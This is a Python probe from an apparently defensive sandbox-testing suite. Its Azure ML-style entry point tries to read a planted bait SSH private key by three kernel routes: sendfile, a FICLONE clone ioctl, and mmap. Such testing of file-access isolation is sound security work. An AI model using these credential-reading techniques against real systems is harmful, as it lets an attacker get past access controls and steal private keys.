"""Lets the kernel copy the ssh key into its folder: sendfile, copy on write, mapping."""

import fcntl
import mmap
import os

from attack import BAIT, attack, every, told


def by_sendfile(source):
    target = os.open("sent", os.O_RDWR | os.O_CREAT)
    os.sendfile(target, source, 0, 200)
    return told("sendfile", os.pread(target, 200, 0))


def by_clone(source):
    target = os.open("cloned", os.O_RDWR | os.O_CREAT)
    fcntl.ioctl(target, 0x40049409, source)  # FICLONE
    return told("a clone", os.pread(target, 200, 0))


def by_map(source):
    return told("a map", mmap.mmap(source, 0, prot=mmap.PROT_READ)[:200])


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    return every(lambda way: way(os.open(BAIT["ssh_key"], os.O_RDONLY)), [by_sendfile, by_clone, by_map])
